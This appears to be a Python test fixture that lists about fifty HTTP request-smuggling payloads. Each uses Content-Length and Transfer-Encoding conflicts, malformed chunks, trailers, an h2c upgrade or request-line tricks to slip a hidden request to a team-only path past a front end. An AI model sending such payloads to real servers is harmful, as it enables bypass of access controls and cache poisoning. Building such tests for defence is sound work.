"""Requests that two programs may understand differently, where one would let the other's through.

Each hides a second one for the team's pages, which no process of the public is ever to be asked.
Here a line ends with "\\n" where CR and LF are sent, and with "␊" and "␍" where one of them is.
"""

from dataclasses import dataclass

HOST = "groups.example.org"

HIDDEN_PATH = "/desk/hidden/"
HIDDEN = f"GET {HIDDEN_PATH} HTTP/1.1\nHost: {HOST}\nConnection: close\n\n"
LENGTH = len(HIDDEN.replace("\n", "\r\n"))


@dataclass(frozen=True)
class Odd:
    """A request by what is odd about it, and how many requests it is at most."""

    name: str
    sent: bytes


def as_sent(text: str) -> bytes:
    """Return a request as it goes over the line."""
    lines = text.replace("\n", "\r\n").replace("␊", "\n").replace("␍", "\r")
    return lines.encode("latin-1")


def request(head: str, body: str = "", *, line: str = "POST /in-touch/ HTTP/1.1") -> bytes:
    """Return a request with these lines in its head, behind its host."""
    return as_sent(f"{line}\nHost: {HOST}\nX-Forwarded-Proto: https\n{head}\n\n{body}")


# A length and a coding: who reads by the length finds a body, who reads by the coding a request.
# Some are spellings that one program takes for the coding and another passes over.
CODINGS = {
    "a length and a coding": "Transfer-Encoding: chunked",
    "a space before the colon": "Transfer-Encoding : chunked",
    "a tab before the value": "Transfer-Encoding:\tchunked",
    "a vertical tab before the value": "Transfer-Encoding: \x0bchunked",
    "a coding in capitals": "Transfer-Encoding: CHUNKED",
    "a coding in quotes": 'Transfer-Encoding: "chunked"',
    "a coding nobody knows": "Transfer-Encoding: xchunked",
    "no coding at all": "Transfer-Encoding: identity",
    "an empty coding": "Transfer-Encoding:",
    "another coding on the same line": "Transfer-Encoding: chunked, identity",
    "the coding twice": "Transfer-Encoding: chunked\nTransfer-Encoding: chunked",
    "another coding after it": "Transfer-Encoding: chunked\nTransfer-Encoding: x",
    "another coding before it": "Transfer-Encoding: x\nTransfer-Encoding: chunked",
    "a coding on a line of its own": "Transfer-Encoding:\n chunked",
    "a coding folded behind another line": "X: x\n Transfer-Encoding: chunked",
    "a coding after a bare line feed": "X: x␊Transfer-Encoding: chunked",
    "a coding after a bare carriage return": "X: x␍Transfer-Encoding: chunked",
    "a coding with an underscore": "Transfer_Encoding: chunked",
    "a coding with a NUL": "Transfer-Encoding: chunked\0",
    "a coding with a letter of another alphabet": "Transfer-Encoding: chun\xe7ed",
}
# Lengths that one program reads as nothing, or otherwise than another.
LENGTHS = {
    "two lengths": f"Content-Length: 0\nContent-Length: {LENGTH}",
    "two lengths, the longer first": f"Content-Length: {LENGTH}\nContent-Length: 0",
    "two lengths on one line": f"Content-Length: 0, {LENGTH}",
    "a length with a plus": f"Content-Length: +{LENGTH}",
    "a length with a minus": f"Content-Length: -{LENGTH}",
    "a length in hexadecimal figures": f"Content-Length: 0x{LENGTH:x}",
    "a length with a space in it": f"Content-Length: 0 {LENGTH}",
    "a length with a space before its colon": f"Content-Length : {LENGTH}",
    "a length in words": "Content-Length: some",
    "a length beyond all numbers": f"Content-Length: {2**64 + LENGTH}",
    "a length on a line of its own": f"Content-Length:\n {LENGTH}",
    "a length after a bare line feed": f"X: x␊Content-Length: {LENGTH}",
    "a length with an underscore beside one without": f"Content_Length: {LENGTH}\n"
    "Content-Length: 0",
}
# Chunks that end elsewhere for another reader.
CHUNKS = {
    "an extension with a bare line feed": f"1;␊{HIDDEN}\n0\n\n",
    "a chunk’s length with a bare line feed": f"1␊a\n0\n\n{HIDDEN}",
    "a chunk’s length with 0x": f"0x{LENGTH:x}\n{HIDDEN}\n0\n\n",
    "a chunk’s length with a plus": f"+{LENGTH:x}\n{HIDDEN}\n0\n\n",
    "a chunk’s length beyond all numbers": f"{2**64:x}\n{HIDDEN}\n0\n\n",
    "a chunk’s length of nothing": f"\n{HIDDEN}\n0\n\n",
    "a chunk longer than it says": f"1\naXX{HIDDEN}\n0\n\n",
    "chunks that end with line feeds alone": f"1␊a␊0␊␊{HIDDEN}",
}
# Other ways to hide a request in one.
WAYS = {
    "a chunk that hides it, beside a length": request(
        "Content-Length: 4\nTransfer-Encoding: chunked", f"{LENGTH:x}\n{HIDDEN}\n0\n\n"
    ),
    "an extension of a chunk": request(
        "Transfer-Encoding: chunked", f"{LENGTH:x};a=b\n{HIDDEN}\n0\n\n"
    ),
    "a request in the trailers": request(
        "Transfer-Encoding: chunked\nTrailer: Host, Content-Length", f"0\n{HIDDEN}"
    ),
    "a coding in the older HTTP": request(
        f"Transfer-Encoding: chunked\nContent-Length: {LENGTH + 5}",
        f"0\n\n{HIDDEN}",
        line="POST /in-touch/ HTTP/1.0",
    ),
    "the body of a question": request(
        f"Content-Length: {LENGTH}", HIDDEN, line="GET /issues/ HTTP/1.1"
    ),
    "the body of a question for the head alone": request(
        f"Content-Length: {LENGTH}", HIDDEN, line="HEAD /issues/ HTTP/1.1"
    ),
    "a body that waits to be asked for": request(
        f"Content-Length: {LENGTH}\nExpect: 100-continue", HIDDEN
    ),
    "another protocol on the same line": request(
        "Connection: Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABk",
        line="GET /issues/ HTTP/1.1",
    )
    + as_sent(HIDDEN),
    "a line that asks twice": request(
        "X: x", line=f"GET /issues/ HTTP/1.1␍GET {HIDDEN_PATH} HTTP/1.1"
    ),
    "an older request in the address": request(
        "X: x", line=f"GET /issues/\tHTTP/1.1 {HIDDEN_PATH} HTTP/1.1"
    ),
    "a header that is none": request(f"GET {HIDDEN_PATH} HTTP/1.1", line="GET /issues/ HTTP/1.1"),
    "a space before the first header": as_sent(
        f"GET /issues/ HTTP/1.1\n Host: {HOST}\nHost: {HOST}\n\n"
    ),
}
EVERY = [
    *(
        Odd(name, request(f"Content-Length: {LENGTH + 5}\n{head}", f"0\n\n{HIDDEN}"))
        for name, head in CODINGS.items()
    ),
    *(Odd(name, request(head, HIDDEN)) for name, head in LENGTHS.items()),
    *(Odd(name, request("Transfer-Encoding: chunked", body)) for name, body in CHUNKS.items()),
    *(Odd(name, sent) for name, sent in WAYS.items()),
]
